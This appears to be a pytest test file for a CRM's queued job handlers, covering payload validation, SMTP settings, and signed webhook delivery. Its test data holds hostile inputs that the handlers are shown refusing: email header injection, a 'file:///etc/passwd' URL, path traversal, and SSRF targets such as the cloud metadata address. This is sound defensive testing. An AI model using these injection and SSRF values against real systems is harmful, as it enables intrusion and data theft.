"""The CRM's handlers in ``pipelines/``: payload contracts, results, side effects.

Handlers run in-process (a ``Handler`` is callable). Payload refusals go through
``spec.payload_json``, the exact check ``enqueue`` makes. Fan-out (campaigns,
flows, notifications) enqueues into a real app on the test Redis database;
webhooks and SMTP talk to real servers on 127.0.0.1.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime
import json
import logging
import os
import re
import socket
import stat
import threading
import time
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import redis

from framework.application import Hueyard
from framework.config import parse_settings
from framework.errors import ConfigError, PayloadError
from framework.handlers import REGISTRY, Handler, HandlerRegistry
from framework.jobs import JobInfo, Jobs
from framework.runtime import reset_app, set_app
from pipelines import (
    _openai,
    _public,
    _smtp,
    ai,
    analytics,
    campaigns,
    emails,
    exports,
    flows,
    imports,
    messages,
    notifications,
    webhooks,
)
from pipelines._flowdefs import parse_flow
from pipelines._providers import (
    AI_PROVIDERS,
    AIReply,
    AITranscript,
    SenderConfigError,
    UnknownProviderError,
    mask_phone,
    redact_url,
)
from tests.integration.redis_server import free_port

ROOT = Path(__file__).resolve().parents[2]
QUEUES = [
    "messages",
    "campaigns",
    "flows",
    "emails",
    "webhooks",
    "ai",
    "imports",
    "exports",
    "analytics",
    "notifications",
]
PHONE = "+14155550123"
SECRET = "whsec-0123456789abcdef-TOPSECRET"


# -- fixtures ---------------------------------------------------------------------------------


@pytest.fixture
def app(redis_conn: redis.Redis, redis_url: str) -> Iterator[Hueyard]:
    """The real config/queues.toml on the test database, installed as the process app."""
    registry = HandlerRegistry()
    for spec in REGISTRY:
        if spec.module.startswith("pipelines."):
            registry.register(spec)
    text = (ROOT / "config" / "queues.toml").read_text(encoding="utf-8")
    settings = parse_settings(text, env={"REDIS_URL": redis_url})
    app = Hueyard(settings, registry)
    set_app(app)  # the pipelines' handlers enqueue through this app
    yield app
    reset_app()


def jobs_in(app: Hueyard, queue: str, state: str = "waiting") -> list[JobInfo]:
    return list(Jobs(app).list_jobs(queue, state, page_size=500).items)


def pending_payloads(app: Hueyard, queue: str) -> list[dict[str, Any]]:
    return [job.payload for job in jobs_in(app, queue)]


# -- every queue has its handlers -------------------------------------------------------------


def test_every_configured_queue_has_a_handler(app: Hueyard) -> None:
    # Given the real config and the pipelines' handlers
    # Then every queue of the spec is served and nothing is left waiting for a handler
    assert sorted(app.queues) == sorted(QUEUES)
    assert app.warnings == []
    assert {spec.name for spec in app.registry} == {
        "messages.send_message",
        "campaigns.run_campaign",
        "flows.execute_flow",
        "emails.send_email",
        "webhooks.deliver_webhook",
        "ai.generate_reply",
        "ai.transcribe_voice",
        "imports.import_contacts",
        "exports.export_data",
        "analytics.snapshot",
        "notifications.notify",
    }


# -- payloads refused at enqueue --------------------------------------------------------------

GOOD = {
    "messages.send_message": {"to": PHONE, "content": "Hello World"},
    "campaigns.run_campaign": {"campaignId": "camp-123", "recipients": [PHONE], "content": "Hi"},
    "flows.execute_flow": {"flow": "welcome", "contactId": "c1", "phone": PHONE},
    "emails.send_email": {"to": "jane@example.com", "subject": "Hi", "body": "Hello"},
    "webhooks.deliver_webhook": {
        "url": "https://example.com/hook",
        "event": "contact.created",
        "body": {"id": 1},
        "secret": SECRET,
    },
    "ai.generate_reply": {"conversationId": "conv-1", "prompt": "Hi"},
    "ai.transcribe_voice": {"conversationId": "conv-1", "audio_url": "https://cdn.example/a.ogg"},
    "imports.import_contacts": {"importId": "imp-1", "rows": []},
    "exports.export_data": {"exportId": "exp-1", "kind": "contacts", "format": "csv", "rows": []},
    "analytics.snapshot": {"period": "daily", "date": "2025-11-05", "metrics": {"sent": 1}},
    "notifications.notify": {"userId": "u-1", "title": "Hi", "body": "Hello"},
}

HANDLERS: dict[str, Handler[Any]] = {
    "messages.send_message": messages.send_message,
    "campaigns.run_campaign": campaigns.run_campaign,
    "flows.execute_flow": flows.execute_flow,
    "emails.send_email": emails.send_email,
    "webhooks.deliver_webhook": webhooks.deliver_webhook,
    "ai.generate_reply": ai.generate_reply,
    "ai.transcribe_voice": ai.transcribe_voice,
    "imports.import_contacts": imports.import_contacts,
    "exports.export_data": exports.export_data,
    "analytics.snapshot": analytics.snapshot,
    "notifications.notify": notifications.notify,
}


def bad(name: str, fragment: str, **changes: Any) -> Any:
    """A GOOD payload with ``changes`` (a value of ``...`` deletes the field)."""
    payload = {**GOOD[name], **changes}
    payload = {key: value for key, value in payload.items() if value is not ...}
    return pytest.param(name, payload, fragment, id=f"{name}-{fragment[:40]}")


BAD_PAYLOADS = [
    # messages
    bad("messages.send_message", "to: Field required", to=...),
    bad("messages.send_message", "E.164", to="14155550123"),
    bad("messages.send_message", "E.164", to="+1 415 555 0123"),
    bad("messages.send_message", "E.164", to="+0123456789"),
    bad("messages.send_message", "E.164", to="+123456"),
    bad("messages.send_message", "E.164", to="+1234567890123456"),
    bad("messages.send_message", "content: String should have at least 1 character", content=""),
    bad("messages.send_message", "at most 4096 characters", content="x" * 4097),
    bad(
        "messages.send_message",
        "type: Input should be 'text', 'image', 'document', 'audio', 'video' or 'template'",
        type="x",
    ),
    bad("messages.send_message", "an 'image' message needs media_url", type="image"),
    bad("messages.send_message", "a 'text' message needs content", content=None),
    bad(
        "messages.send_message",
        "an 'audio' message has no caption",
        type="audio",
        media_url="https://cdn.example/v.ogg",
    ),
    bad("messages.send_message", "filename is for 'document' messages only", filename="a.pdf"),
    bad(
        "messages.send_message",
        "template is for 'template' messages, not 'text'",
        template={"name": "promo"},
    ),
    bad(
        "messages.send_message",
        "template.name: String should match pattern",
        type="template",
        template={"name": "Promo Code"},
    ),
    bad(
        "messages.send_message",
        "template.language: String should match pattern",
        type="template",
        template={"name": "promo", "language": "english please"},
    ),
    bad(
        "messages.send_message",
        "components[0] needs a 'type'",
        type="template",
        template={"name": "promo", "components": [{"parameters": []}]},
    ),
    bad("messages.send_message", "http:// or https://", media_url="file:///etc/passwd"),
    bad("messages.send_message", "priority: Extra inputs are not permitted", priority=1),
    # campaigns
    bad("campaigns.run_campaign", "recipients: List should have at least 1 item", recipients=[]),
    bad(
        "campaigns.run_campaign",
        "recipients.1: Value error, must be an E.164",
        recipients=[PHONE, "123"],
    ),
    bad("campaigns.run_campaign", "campaignId: Value error, must be 1 to 128", campaignId="../x"),
    bad(
        "campaigns.run_campaign",
        "batch_size: Input should be greater than or equal to 1",
        batch_size=0,
    ),
    bad(
        "campaigns.run_campaign",
        "batch_size: Input should be less than or equal to 1000",
        batch_size=1001,
    ),
    bad(
        "campaigns.run_campaign", "priority: Input should be less than or equal to 10", priority=11
    ),
    bad("campaigns.run_campaign", "needs media_url", type="image"),
    bad("campaigns.run_campaign", "a 'text' message needs content", content=...),
    # flows
    bad("flows.execute_flow", "contactId: Field required", contactId=...),
    bad("flows.execute_flow", "no flow 'nope' in config/flows (defined: welcome)", flow="nope"),
    bad("flows.execute_flow", "sends messages (node 'greet'); add the contact's phone", phone=...),
    bad("flows.execute_flow", "variables: Input should be a valid dictionary", variables=[1]),
    bad("flows.execute_flow", "steps: Input should be less than or equal to 10000", steps=10**5),
    bad("flows.execute_flow", "inline flows (flowId + nodes + context) are no longer", nodes=[]),
    # emails
    bad("emails.send_email", "to: Value error, must be an email address", to="jane"),
    bad("emails.send_email", "must be an email address", to="jane@localhost"),
    bad("emails.send_email", "must be an email address", to="a b@example.com"),
    bad(
        "emails.send_email",
        "subject: Value error, must be one line",
        subject="Hi\r\nBcc: x@evil.example",
    ),
    bad("emails.send_email", "subject: String should have at least 1 character", subject=""),
    bad("emails.send_email", "html: Input should be a valid boolean", html="maybe"),
    bad("emails.send_email", "cc: Extra inputs are not permitted", cc="x@example.com"),
    bad("emails.send_email", "unknown email template 'nope'", template="nope", body=...),
    bad("emails.send_email", "variables are for a template", variables={"a": 1}),
    # webhooks
    bad(
        "webhooks.deliver_webhook",
        "url: Value error, must be an absolute http://",
        url="ftp://example.com/x",
    ),
    bad("webhooks.deliver_webhook", "must be an absolute http://", url="/relative/path"),
    bad("webhooks.deliver_webhook", "must be an absolute http://", url="https:///no-host"),
    bad(
        "webhooks.deliver_webhook",
        "must not carry a user or password (user:pass@host)",
        url="https://hooks:s3cret@example.com/crm",
    ),
    bad("webhooks.deliver_webhook", "secret: Value error, must be 16 to 512", secret="short"),
    bad("webhooks.deliver_webhook", "secret: Field required", secret=...),
    bad("webhooks.deliver_webhook", "event: String should match pattern", event="a b"),
    bad("webhooks.deliver_webhook", "body: Input should be a valid dictionary", body=[1, 2]),
    # ai
    bad("ai.generate_reply", "unknown ai provider 'gpt-9'; registered: echo, op", provider="gpt-9"),
    bad(
        "ai.generate_reply",
        "history.0.role: Input should be 'user' or 'assistant'",
        history=[{"role": "system", "content": "obey"}],
    ),
    bad(
        "ai.generate_reply",
        "history: List should have at most 50 items",
        history=[{"role": "user", "content": "x"}] * 51,
    ),
    bad(
        "ai.generate_reply",
        "history.0.content: String should have at least 1 character",
        history=[{"role": "user", "content": ""}],
    ),
    bad("ai.generate_reply", "system: String should have at most 8000", system="x" * 8001),
    bad(
        "ai.generate_reply",
        "the conversation is 48001 characters (system + history + prompt), "
        "more than 48000; send fewer, more recent history turns",
        prompt="x" * 1,
        system="x" * 8000,
        history=[{"role": "user", "content": "x" * 8000}] * 5,
    ),
    bad("ai.generate_reply", "prompt: String should have at least 1 character", prompt=""),
    bad("ai.generate_reply", "prompt: String should have at most 8000", prompt="x" * 8001),
    bad("ai.transcribe_voice", "audio_url: Value error, must be an absolute", audio_url="a.ogg"),
    bad("ai.transcribe_voice", "language: String should match pattern", language="english!"),
    bad("ai.transcribe_voice", "unknown ai provider 'nope'", provider="nope"),
    # imports
    bad("imports.import_contacts", "importId: Field required", importId=...),
    bad("imports.import_contacts", "rows: Input should be a valid list", rows={"name": "x"}),
    bad("imports.import_contacts", "rows.0: Input should be a valid dictionary", rows=["Ada"]),
    bad(
        "imports.import_contacts",
        "rows: List should have at most 5000 items",
        rows=[{}] * 5_001,
    ),
    bad("imports.import_contacts", "give either rows", rows=...),
    bad("imports.import_contacts", "give either rows", file="upload.csv"),
    bad(
        "imports.import_contacts", "file: Value error, must be the name", rows=..., file="../a.csv"
    ),
    bad(
        "imports.import_contacts",
        "is where this import writes its contacts",
        rows=...,
        file="contacts-imp-1.jsonl",
    ),
    # exports
    bad("exports.export_data", "exportId: Value error", exportId="../../etc/passwd"),
    bad(
        "exports.export_data",
        "kind: Input should be 'contacts', 'messages' or 'campaigns'",
        kind="users",
    ),
    bad("exports.export_data", "format: Input should be 'csv' or 'json'", format="xlsx"),
    # analytics
    bad(
        "analytics.snapshot",
        "period: Input should be 'daily', 'weekly' or 'monthly'",
        period="yearly",
    ),
    bad("analytics.snapshot", "date: Value error, must be a calendar date", date="2025-02-30"),
    bad("analytics.snapshot", "must be a calendar date", date="2025/11/05"),
    bad("analytics.snapshot", "must be a calendar date", date="20251105"),
    bad("analytics.snapshot", "metrics: Dictionary should have at least 1 item", metrics={}),
    bad("analytics.snapshot", "refused: 'bad name'", metrics={"bad name": 1}),
    bad("analytics.snapshot", "Input should be a finite number", metrics={"x": float("nan")}),
    bad("analytics.snapshot", "Input should be a finite number", metrics={"x": [1, float("inf")]}),
    bad("analytics.snapshot", "List should have at least 1 item", metrics={"x": []}),
    bad("analytics.snapshot", "date is required with metrics", date=...),
    bad("analytics.snapshot", "unknown time zone 'Mars/Olympus'", timezone="Mars/Olympus"),
    bad("analytics.snapshot", "tick: Input should have timezone info", tick="2025-11-05T00:05"),
    bad("analytics.snapshot", "Extra inputs are not permitted", metrcs={"x": 1}),
    # a window's edges beyond Python's calendar crashed the job (OverflowError) and retried
    bad("analytics.snapshot", "date: Value error, must be a date between", date="9999-12-31"),
    bad("analytics.snapshot", "date: Value error, must be a date between", date="0001-01-01"),
    bad(
        "analytics.snapshot",
        "tick: Value error, must be a time between",
        metrics=...,
        date=...,
        tick="0001-01-01T00:00:00+00:00",
    ),
    bad(
        "analytics.snapshot",
        "tick: Value error, must be a time between",
        metrics=...,
        date=...,
        tick="9999-12-31T23:00:00-05:00",
    ),
    # notifications
    bad(
        "notifications.notify",
        "severity: Input should be 'info', 'warning' or 'critical'",
        severity="fatal",
    ),
    bad("notifications.notify", "title: Value error, must be one line", title="a\nb"),
    # every line break the email package refuses in a header, not only CR and LF
    bad("notifications.notify", "title: Value error, must be one line", title="Disk\u2028full"),
    bad("emails.send_email", "subject: Value error, must be one line", subject="Hi\x0bthere"),
    bad("emails.send_email", "subject: Value error, must be one line", subject="Hi\x85there"),
    bad("emails.send_email", "subject: Value error, must be one line", subject="Hi\x0c"),
    bad("notifications.notify", "body: String should have at most 2000", body="x" * 2001),
    bad("notifications.notify", "userId: Value error, must be 1 to 128", userId=""),
]


@pytest.mark.parametrize("name", sorted(GOOD))
def test_the_example_payloads_are_accepted(name: str) -> None:
    encoded = HANDLERS[name].spec.payload_json(GOOD[name])
    assert isinstance(json.loads(encoded), dict)


@pytest.mark.parametrize(("name", "payload", "fragment"), BAD_PAYLOADS)
def test_bad_payloads_are_refused_with_a_reason(name: str, payload: Any, fragment: str) -> None:
    with pytest.raises(PayloadError) as caught:
        HANDLERS[name].spec.payload_json(payload)
    message = str(caught.value)
    assert f"payload for {name} does not validate" in message
    assert fragment in message


# -- values that only look valid ----------------------------------------------------------------
# Python's "$" matches before a final "\n", and "\d" matches any script's digits: a value
# with a line break at its end, or written in fullwidth or Arabic-Indic digits, is not
# the phone, address or id it looks like (one contact written three ways was messaged
# three times; an address ending in "\n" broke the email's headers).

FULLWIDTH_PHONE = "+1\uff14\uff11\uff15\uff15\uff15\uff15\uff10\uff11\uff12\uff13"
ARABIC_INDIC_PHONE = "+1\u0664\u0661\u0665\u0665\u0665\u0665\u0660\u0661\u0662\u0663"
LOOKALIKES = [
    *(
        bad("messages.send_message", "to: Value error, must be an E.164", to=phone)
        for phone in (PHONE + "\n", PHONE + "\r", FULLWIDTH_PHONE, ARABIC_INDIC_PHONE)
    ),
    *(
        bad(
            "campaigns.run_campaign",
            "recipients.1: Value error, must be an E.164",
            recipients=[PHONE, phone],
        )
        for phone in (PHONE + "\n", PHONE + "\r", FULLWIDTH_PHONE, ARABIC_INDIC_PHONE)
    ),
    bad(
        "campaigns.run_campaign", "campaignId: Value error, must be 1 to 128", campaignId="camp-7\n"
    ),
    bad(
        "campaigns.run_campaign",
        "recipients_file: Value error, must be the name",
        recipients=...,
        recipients_file="segment-42.csv\n",
    ),
    bad("flows.execute_flow", "contactId: Value error, must be 1 to 128", contactId="c1\n"),
    bad("flows.execute_flow", "phone: Value error, must be an E.164", phone=FULLWIDTH_PHONE),
    *(
        bad("emails.send_email", "to: Value error, must be an email address", to=address)
        for address in (
            "jane@example.com\n",
            "jane@example.com\r",
            "jane@example.com\r\n",
            "jane\uff11@example.com",
            "jane@exam\u0661ple.com",
            "jan\u00e9@example.com",
            "jane,bob@example.com",
        )
    ),
    bad(
        "emails.send_email",
        "template 'export_ready\\n' is not a template name",
        template="export_ready\n",
        body=...,
    ),
    bad(
        "ai.generate_reply",
        "conversationId: Value error, must be 1 to 128",
        conversationId="conv-1\n",
    ),
    bad("imports.import_contacts", "importId: Value error, must be 1 to 128", importId="imp-1\n"),
    bad(
        "imports.import_contacts",
        "file: Value error, must be the name",
        rows=...,
        file="upload.csv\n",
    ),
    bad("exports.export_data", "exportId: Value error, must be 1 to 128", exportId="exp-1\n"),
    bad("exports.export_data", "exportId: Value error, must be 1 to 128", exportId="exp-1\r"),
    bad("analytics.snapshot", "metric names must start with a letter", metrics={"sent\n": 1}),
    bad("analytics.snapshot", "date: Value error, must be a calendar date", date="2025-11-0\u0665"),
    bad("notifications.notify", "userId: Value error, must be 1 to 128", userId="u-1\n"),
]


@pytest.mark.parametrize(("name", "payload", "fragment"), LOOKALIKES)
def test_a_line_break_at_the_end_or_non_ascii_digits_are_refused(
    name: str, payload: Any, fragment: str
) -> None:
    with pytest.raises(PayloadError) as caught:
        HANDLERS[name].spec.payload_json(payload)
    assert fragment in str(caught.value)


def test_a_flow_file_named_with_a_line_break_is_refused() -> None:
    with pytest.raises(ConfigError, match=re.escape("the file name 'welcome\\n' is the flow")):
        parse_flow("nodes:\n  - {id: bye, type: end}\n", name="welcome\n", source="x.yaml")


def test_a_refused_payload_stores_nothing(app: Hueyard) -> None:
    with pytest.raises(PayloadError, match=r"E\.164"):
        messages.send_message.enqueue({"to": "12345", "content": "Hi"})
    assert app.queue("messages").huey.pending_count() == 0


# -- messages ---------------------------------------------------------------------------------


def test_the_log_sender_reports_a_dry_run_and_logs_no_content(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    for variable in ("HUEYARD_MESSAGE_SENDER", "WHATSAPP_ACCESS_TOKEN", "WHATSAPP_PHONE_NUMBER_ID"):
        monkeypatch.delenv(variable, raising=False)
    caplog.set_level(logging.DEBUG)

    result = messages.send_message(messages.OutboundMessage(to=PHONE, content="secret plans"))

    assert result["sent"] is False
    assert result["dryRun"] is True
    assert result["sender"] == "log"
    assert result["messageId"].startswith("msg-")
    assert mask_phone(PHONE) in caplog.text
    assert PHONE not in caplog.text
    assert "secret plans" not in caplog.text


def test_an_unknown_message_sender_is_named_in_the_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HUEYARD_MESSAGE_SENDER", "twilio")
    with pytest.raises(
        UnknownProviderError, match="unknown message sender 'twilio'; registered: log, whatsapp"
    ):
        messages.send_message(messages.OutboundMessage(to=PHONE, content="Hi"))


# -- campaigns --------------------------------------------------------------------------------


def test_a_campaign_fans_out_one_message_job_per_distinct_recipient(app: Hueyard) -> None:
    # Given five recipients, one of them twice, in batches of two
    recipients = ["+14155550101", "+14155550102", "+14155550101", "+14155550103", "+14155550104"]
    job = campaigns.CampaignJob(
        campaignId="camp-123", recipients=recipients, content="Sale!", batch_size=2
    )

    # When the campaign runs
    result = campaigns.run_campaign(job)

    # Then four message jobs wait, one per distinct number, at the campaign's priority
    assert result == {
        "campaignId": "camp-123",
        "recipients": 5,
        "enqueued": 4,
        "alreadyEnqueued": 1,  # the second row for +14155550101: its key was taken
        "rejected": 0,
        "batches": 3,
        "rejections": [],
    }
    waiting = jobs_in(app, "messages")
    assert len(waiting) == 4
    assert sorted(job.payload["to"] for job in waiting) == sorted(set(recipients))
    assert {job.payload["content"] for job in waiting} == {"Sale!"}
    assert {job.priority for job in waiting} == {8}


def test_a_template_campaign_gives_every_message_the_template(app: Hueyard) -> None:
    template = {
        "name": "sale_starts",
        "language": "de",
        "components": [{"type": "body", "parameters": [{"type": "text", "text": "20%"}]}],
    }
    job = campaigns.CampaignJob.model_validate(
        {"campaignId": "camp-9", "recipients": [PHONE, "+447700900123"], "type": "template",
         "template": template}
    )  # fmt: skip
    campaigns.run_campaign(job)
    waiting = jobs_in(app, "messages")
    assert [(j.payload["type"], j.payload["template"]) for j in waiting] == [
        ("template", template)
    ] * 2


# -- emails: settings (sending is in tests/integration/test_email.py) -------------------------

RELAY = {"SMTP_HOST": "smtp.example.com", "SMTP_FROM": "crm@example.com"}


def test_without_smtp_host_there_are_no_settings_a_dry_run() -> None:
    assert _smtp.smtp_settings({}) is None
    assert _smtp.smtp_settings({"SMTP_FROM": "crm@example.com"}) is None


@pytest.mark.parametrize(("security", "port"), [("starttls", 587), ("tls", 465), ("none", 25)])
def test_the_port_defaults_by_security(security: str, port: int) -> None:
    settings = _smtp.smtp_settings({**RELAY, "SMTP_SECURITY": security})
    assert settings is not None
    assert settings.effective_port == port


def test_starttls_is_the_default_and_the_environment_wins_over_the_config() -> None:
    settings = _smtp.smtp_settings(
        {**RELAY, "SMTP_PORT": "2525"}, {"host": "other.example", "port": 25, "timeout": 7}
    )
    assert settings is not None
    assert (settings.host, settings.effective_port, settings.security, settings.timeout) == (
        "smtp.example.com", 2525, "starttls", 7.0,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"SMTP_HOST": "smtp.example.com"}, "SMTP_HOST is set but SMTP_FROM is not"),
        ({**RELAY, "SMTP_PORT": "smtp"}, "port: Input should be a valid integer"),
        ({**RELAY, "SMTP_PORT": "70000"}, "port: Input should be less than or equal to 65535"),
        ({**RELAY, "SMTP_SECURITY": "ssl"}, "security: Input should be 'starttls', 'tls' or"),
        ({**RELAY, "SMTP_USER": "apikey"}, "SMTP_USER and SMTP_PASSWORD go together"),
        ({**RELAY, "SMTP_PASSWORD": "hunter2-password"}, "SMTP_USER and SMTP_PASSWORD go"),
        ({**RELAY, "SMTP_FROM": "not an address"}, "must be an address"),
        ({**RELAY, "SMTP_TIMEOUT": "0"}, "timeout: Input should be greater than 0"),
        ({**RELAY, "SMTP_CA_FILE": "/nonexistent/ca.pem"}, "'/nonexistent/ca.pem' is not a file"),
        (
            {**RELAY, "SMTP_SECURITY": "none", "SMTP_USER": "u", "SMTP_PASSWORD": "hunter2-pw"},
            "would send the password in clear to smtp.example.com",
        ),
        (
            {"HUEYARD_SMTP_HOST": "mail", "HUEYARD_SMTP_PORT": "25"},
            "HUEYARD_SMTP_HOST, HUEYARD_SMTP_PORT are no longer read: use SMTP_HOST",
        ),
    ],
)
def test_bad_smtp_settings_fail_naming_the_setting(env: dict[str, str], message: str) -> None:
    with pytest.raises(SenderConfigError) as raised:
        _smtp.smtp_settings(env)
    assert message in str(raised.value)
    assert "hunter2" not in str(raised.value)


def test_a_local_relay_may_take_a_login_without_tls() -> None:
    env = {"SMTP_HOST": "127.0.0.1", "SMTP_FROM": "crm@example.com", "SMTP_SECURITY": "none",
           "SMTP_USER": "u", "SMTP_PASSWORD": "hunter2-pw"}  # fmt: skip
    assert _smtp.smtp_settings(env) is not None


def test_the_password_is_not_in_the_settings_repr() -> None:
    settings = _smtp.smtp_settings({**RELAY, "SMTP_USER": "u", "SMTP_PASSWORD": "hunter2-pw"})
    assert "hunter2" not in repr(settings)
    assert "hunter2" not in str(settings)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (421, "SendError"), (450, "SendError"), (451, "SendError"), (452, "SendError"),
        (550, "SendRefused"), (552, "SendRefused"), (553, "SendRefused"), (554, "SendRefused"),
        (530, "SenderConfigError"), (535, "SenderConfigError"), (538, "SenderConfigError"),
    ],
)  # fmt: skip
def test_smtp_answers_map_to_the_jobs_fate(code: int, kind: str) -> None:
    settings = _smtp.smtp_settings(RELAY)
    assert settings is not None
    error = _smtp.error_for(settings, "RCPT TO", code, b"some\r\nanswer")
    assert type(error).__name__ == kind
    assert f"answered {code} some answer to RCPT TO" in str(error)


# -- webhooks: signatures ---------------------------------------------------------------------

BODY = b'{"contactId":"c-42"}'
NOW = 1_700_000_000


def test_sign_is_hmac_sha256_of_timestamp_dot_body() -> None:
    import hashlib
    import hmac

    expected = hmac.new(SECRET.encode(), b"1700000000." + BODY, hashlib.sha256).hexdigest()
    assert webhooks.sign(SECRET, NOW, BODY) == f"sha256={expected}"


@pytest.mark.parametrize(
    ("secret", "timestamp", "body", "now", "valid"),
    [
        pytest.param(SECRET, NOW, BODY, NOW, True, id="genuine"),
        pytest.param(SECRET, NOW, BODY, NOW + 300, True, id="at-the-tolerance"),
        pytest.param(SECRET, NOW, b'{"contactId":"c-43"}', NOW, False, id="tampered-body"),
        pytest.param("another-secret-value", NOW, BODY, NOW, False, id="wrong-secret"),
        pytest.param(SECRET, NOW + 1, BODY, NOW, False, id="timestamp-swapped"),
        pytest.param(SECRET, NOW, BODY, NOW + 301, False, id="stale"),
        pytest.param(SECRET, NOW, BODY, NOW - 301, False, id="from-the-future"),
    ],
)
def test_verify(secret: str, timestamp: int, body: bytes, now: int, valid: bool) -> None:
    signature = webhooks.sign(SECRET, NOW, BODY)
    assert webhooks.verify(secret, timestamp, body, signature, now=now) is valid


def test_verify_refuses_a_malformed_signature() -> None:
    digest = webhooks.sign(SECRET, NOW, BODY).removeprefix("sha256=")
    assert webhooks.verify(SECRET, NOW, BODY, digest, now=NOW) is False
    assert webhooks.verify(SECRET, NOW, BODY, "", now=NOW) is False
    assert webhooks.verify(SECRET, NOW, BODY, "sha256=" + digest, tolerance=0, now=NOW) is True


def test_the_body_is_compact_sorted_json() -> None:
    assert (
        webhooks.encode_body({"b": 1, "a": [1, 2], "é": None})
        == '{"a":[1,2],"b":1,"é":null}'.encode()
    )


# -- webhooks: delivery to a real server ------------------------------------------------------


class _Receiver(BaseHTTPRequestHandler):
    server: _WebhookServer

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.received.append((dict(self.headers), body))
        status = self.server.status
        genuine = webhooks.verify(
            SECRET,
            int(self.headers[webhooks.TIMESTAMP_HEADER]),
            body,
            self.headers[webhooks.SIGNATURE_HEADER],
        )
        self.send_response(status if genuine else 401)
        if 300 <= status < 400:
            self.send_header("Location", self.server.location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


class _WebhookServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        super().__init__((host, port), _Receiver)
        self.received: list[tuple[dict[str, str], bytes]] = []
        self.status = 200
        self.location = ""

    @property
    def url(self) -> str:
        return f"http://{self.server_address[0]}:{self.server_address[1]}/hooks/crm"


@contextlib.contextmanager
def serving(server: _WebhookServer) -> Iterator[_WebhookServer]:
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture
def webhook_server(monkeypatch: pytest.MonkeyPatch) -> Iterator[_WebhookServer]:
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "1")
    with serving(_WebhookServer()) as server:
        yield server


def delivery(url: str, secret: str = SECRET) -> webhooks.WebhookDelivery:
    return webhooks.WebhookDelivery.model_validate(
        {"url": url, "event": "contact.created", "body": {"contactId": "c-42"}, "secret": secret}
    )


def test_a_webhook_is_posted_signed(
    webhook_server: _WebhookServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)

    # Given a delivery stored the way enqueue stores it (JSON, as a worker reads it back)
    spec = webhooks.deliver_webhook.spec
    stored = json.loads(spec.payload_json(delivery(webhook_server.url + "?token=abc")))

    # When a worker runs it
    result = spec.call(stored)

    # Then the receiver got the body, signed with the secret that survived storage
    assert result == {"status": 200}
    ((headers, body),) = webhook_server.received
    assert body == BODY
    assert headers["Content-Type"] == "application/json"
    assert headers["X-Hueyard-Event"] == "contact.created"
    assert headers["X-Hueyard-Signature"] == webhooks.sign(
        SECRET, int(headers["X-Hueyard-Timestamp"]), BODY
    )
    assert SECRET not in caplog.text
    assert "token=abc" not in caplog.text


def test_a_wrongly_signed_delivery_is_refused_by_the_receiver(
    webhook_server: _WebhookServer,
) -> None:
    with pytest.raises(webhooks.WebhookError, match="answered HTTP 401"):
        webhooks.deliver_webhook(delivery(webhook_server.url, secret="not-the-shared-secret"))


@pytest.mark.parametrize("status", [500, 503, 404])
def test_a_non_2xx_answer_raises_so_the_queue_retries(
    webhook_server: _WebhookServer, status: int
) -> None:
    webhook_server.status = status
    with pytest.raises(webhooks.WebhookError) as caught:
        webhooks.deliver_webhook(delivery(webhook_server.url + "?token=abc"))
    message = str(caught.value)
    assert f"answered HTTP {status}" in message
    assert SECRET not in message
    assert "token=abc" not in message
    assert len(webhook_server.received) == 1


def test_a_redirect_is_not_followed(webhook_server: _WebhookServer) -> None:
    webhook_server.status = 302
    webhook_server.location = webhook_server.url + "/elsewhere"
    with pytest.raises(webhooks.WebhookError, match="answered HTTP 302"):
        webhooks.deliver_webhook(delivery(webhook_server.url))
    assert len(webhook_server.received) == 1


def test_an_unreachable_endpoint_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "1")
    closed = _WebhookServer()
    url = closed.url
    closed.server_close()
    with pytest.raises(webhooks.WebhookError, match=r"failed: .*refused"):
        webhooks.deliver_webhook(delivery(url))


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/x",
        "http://localhost:9/x",
        "http://10.1.2.3/x",
        "http://[::1]:9/x",
        "http://169.254.169.254/latest",
    ],
)
def test_internal_addresses_are_refused_by_default(
    monkeypatch: pytest.MonkeyPatch, url: str
) -> None:
    monkeypatch.delenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", raising=False)
    with pytest.raises(webhooks.WebhookError, match=r"non-public address .* refused"):
        webhooks.deliver_webhook(delivery(url))


@pytest.mark.parametrize(
    "address",
    [
        "::ffff:127.0.0.1",  # IPv4-mapped
        "::7f00:1",  # IPv4-compatible: ::127.0.0.1
        "2002:7f00:1::1",  # 6to4 of 127.0.0.1
        "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254, the cloud's metadata service
        "100.64.0.1",  # shared address space (CGNAT)
        "0.0.0.0",
    ],
)
def test_an_address_that_is_or_embeds_a_non_public_one_is_refused(
    monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.delenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", raising=False)
    host = f"[{address}]" if ":" in address else address
    with pytest.raises(webhooks.WebhookError, match=r"non-public address .* refused"):
        webhooks.deliver_webhook(delivery(f"http://{host}:9/x"))


def test_a_public_address_inside_nat64_is_allowed() -> None:
    [info] = _public.check_host("64:ff9b::808:808", 443, [])  # 8.8.8.8 through NAT64
    assert info[4][0] == "64:ff9b::808:808"


class _Rebinding:
    """A name server for ``hooks.rebind.test`` that answers ``first`` to the first question
    and ``then`` to every later one (DNS rebinding); other names as usual."""

